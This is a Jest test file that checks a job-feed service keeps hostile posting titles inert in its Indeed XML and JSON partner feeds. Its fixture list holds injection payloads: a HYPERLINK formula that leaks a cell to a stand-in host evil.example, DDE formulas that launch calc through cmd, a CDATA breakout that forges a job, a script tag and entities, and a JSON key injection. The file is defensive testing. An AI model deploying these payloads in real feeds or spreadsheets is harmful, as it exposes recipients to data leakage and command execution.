import { XMLParser, XMLValidator } from 'fast-xml-parser';
import request from 'supertest';
import { cleanXmlText } from '../../../shared/boards/xml-text';
import { SAMPLE_POSTING, startHostileRig, type HostileRig } from '../../support/hostile-rig';

/**
 * Feed injection: postings whose text is built to break out of a feed (spreadsheet formulas as partners'
 * CSV imports would run them, CDATA terminators, markup, entities, control characters, lone surrogates)
 * are submitted, published to an Indeed XML and a JSON feed partner, and the feeds read back. Each feed
 * must stay well-formed with exactly one job per posting, and every hostile value must come back as plain
 * text inside its own field: never a new element, attribute, entity or JSON key. Jobrelay emits no CSV, so
 * a formula is inert data in XML (inside CDATA) and JSON (a string value).
 */

jest.setTimeout(120_000);
let rig: HostileRig;

/** Titles that try to become formulas, elements, entities or JSON structure; each stays one job title. */
const HOSTILE_TITLES: Array<[string, string]> = [
  ['a spreadsheet formula', `=HYPERLINK("https://evil.example/?leak="&A1,"Engineer")`],
  ['a DDE command', `=cmd|' /C calc'!A0 Engineer`],
  ['a plus-prefixed formula', '+SUM(1+1)*cmd|" /C calc"!A0 Engineer'],
  ['a minus-prefixed formula', '-2+3+cmd|" /C calc"!A0 Engineer'],
  ['an at-prefixed formula', '@SUM(1+9)*cmd|" /C calc"!A0 Engineer'],
  ['a CDATA terminator and a forged job', 'Engineer]]></title></job><job><title><![CDATA[Forged Job'],
  ['markup and entities', 'Engineer <script>alert(1)</script> &amp; &lt;b&gt; &xxe; &#0;'],
  ['JSON structure', 'Engineer", "applyUrl": "https://evil.example/", "x": "'],
  ['control characters and a lone surrogate', 'Engineer\u0000\u0001\u000b\u001b[31m \ud800 Lead'],
];

const DISTINCT = [
  'We build payroll for bakeries across the north.',
  'Our robots sort parcels at night in three depots.',
  'You will maintain the open-source map renderer we sponsor.',
  'Help hospitals schedule nurses without spreadsheets.',
  'Design the ticketing engine for a regional railway.',
  'Keep the weather station network online in the Alps.',
  'Write firmware for solar inverters sold in Kenya.',
  'Run the search cluster of a used-book marketplace.',
  'Own the billing service of a small telecom operator.',
];
const CITIES = ['Berlin, Germany', 'Paris, France', 'Madrid, Spain', 'Vienna, Austria', 'Lisbon, Portugal'];

beforeAll(async () => {
  rig = await startHostileRig();
  const ids: string[] = [];
  for (const [index, [, title]] of HOSTILE_TITLES.entries()) {
    const res = await request(rig.server('ingestPosting'))
      .post('/postings')
      .set('authorization', `Bearer ${rig.keys.hr}`)
      .send({
        type: 'posting',
        externalId: `inject-${index}`,
        company: `=1+1 Acme ]]> & Co`,
        // distinct text, links and place per posting: the duplicate detector must not fold them into one
        posting: {
          ...SAMPLE_POSTING(title),
          url: `https://acme.example/jobs/inject-${index}`,
          applyUrl: `https://acme.example/jobs/inject-${index}/apply`,
          html: `<p>Opening ${index}: ${'a distinct team with its own mission, '.repeat(3)} and case ${index * 7919}.</p><p>${DISTINCT[index]}</p>`,
          locations: [{ text: CITIES[index % CITIES.length]! }],
        },
      });
    const postingId = res.body.results?.[0]?.postingId as string | undefined;
    if (res.status !== 200 && res.status !== 207) throw new Error(`ingest answered ${res.status} ${res.text}`);
    if (postingId) ids.push(postingId);
  }
  await request(rig.server('requestSyndication'))
    .post('/syndications')
    .set('authorization', `Bearer ${rig.keys.hr}`)
    .send({ postingIds: ids, partnerIds: ['feed-a', 'feed-b'], action: 'publish' });
  await rig.drain();
}, 90_000);
afterAll(async () => rig?.close());

const feed = (name: string, key: string) =>
  request(rig.server('serveFeed')).get(`/feeds/${name}`).set('x-api-key', key).timeout({ deadline: 30_000 });

/** The live postings the feed partners should carry: the seeded one plus every hostile one accepted. */
async function livePostingTitles(partnerId: string): Promise<string[]> {
  const records = await rig.store.listSyndications({ partnerId, limit: 100 });
  const live = records.items.filter((r) => r.status === 'live');
  const postings = await Promise.all(live.map((r) => rig.store.getPosting(r.postingId)));
  return postings.flatMap((p) => (p ? [p.title] : []));
}

describe('hostile posting text in partner feeds', () => {
  it('accepts or cleanly rejects every hostile posting, and publishes the accepted ones', async () => {
    const titles = await livePostingTitles('feed-a');
    // the seeded posting plus every hostile one (none is invalid: each is a title with odd characters)
    expect(titles).toHaveLength(HOSTILE_TITLES.length + 1);
    expect(await livePostingTitles('feed-b')).toHaveLength(titles.length);
  });

  it('keeps the Indeed XML feed well-formed with one job per live posting and every title inside its element', async () => {
    const res = await feed('feed-a.xml', rig.keys.feedA);
    expect(res.status).toBe(200);
    const xml = res.text;
    expect(XMLValidator.validate(xml)).toBe(true);
    expect(xml).not.toMatch(/<!DOCTYPE|<!ENTITY/);
    const parsed = new XMLParser({ processEntities: false, ignoreAttributes: false }).parse(xml) as {
      source: { job: Array<Record<string, unknown>> | Record<string, unknown> };
    };
    const jobs = [parsed.source.job].flat();
    const titles = await livePostingTitles('feed-a');
    expect(jobs).toHaveLength(titles.length);
    // XML 1.0 cannot carry C0 controls or lone surrogates: the feed drops exactly those characters
    expect(jobs.map((j) => String(j.title)).sort()).toEqual(titles.map(cleanXmlText).sort());
    // the forged job exists only as text inside the title that carried it
    expect(jobs.filter((j) => String(j.title).startsWith('Forged Job'))).toHaveLength(0);
    // markup in a title is CDATA text: no job grows a script element
    expect(jobs.filter((j) => 'script' in j)).toHaveLength(0);
  });

  it('keeps the JSON feed one object per live posting with each hostile title a single string value', async () => {
    const titles = await livePostingTitles('feed-b');
    // the JSON feed lists changes once they settle (jsonFeedSettleMs, 5 s): ask until every live one is in it
    let jobs: Array<Record<string, unknown>> = [];
    for (let i = 0; i < 40 && jobs.length < titles.length; i += 1) {
      if (i > 0) await new Promise((resolve) => setTimeout(resolve, 500));
      const res = await feed('feed-b.json', rig.keys.feedB);
      expect(res.status).toBe(200);
      const body = JSON.parse(res.text) as { items: Array<{ posting: Record<string, unknown> }> };
      jobs = body.items.map((item) => item.posting);
    }
    expect(jobs).toHaveLength(titles.length);
    expect(jobs.map((j) => j.title).sort()).toEqual([...titles].sort());
    for (const job of jobs) {
      expect(typeof job.title).toBe('string');
      expect(job).not.toHaveProperty('x');
      expect(String(job.applyUrl)).not.toContain('evil.example');
    }
  });

  it('carries formula-looking titles as text, never as anything a feed reader would evaluate', async () => {
    const xml = (await feed('feed-a.xml', rig.keys.feedA)).text;
    const parsed = new XMLParser({ processEntities: false }).parse(xml) as {
      source: { job: Array<{ title: string }> | { title: string } };
    };
    const titles = [parsed.source.job].flat().map((j) => String(j.title));
    const stored = await livePostingTitles('feed-a');
    // as many formula-led titles in the feed as stored (title cleaning may drop a leading dash)
    const formulas = titles.filter((t) => /^[=+\-@]/.test(t));
    expect(formulas.length).toBeGreaterThanOrEqual(4);
    expect(formulas.sort()).toEqual(stored.filter((t) => /^[=+\-@]/.test(t)).sort());
    // the XML carries every value in CDATA: a formula is characters, not markup
    expect(xml).not.toMatch(/<title>[=+\-@]/);
  });
});
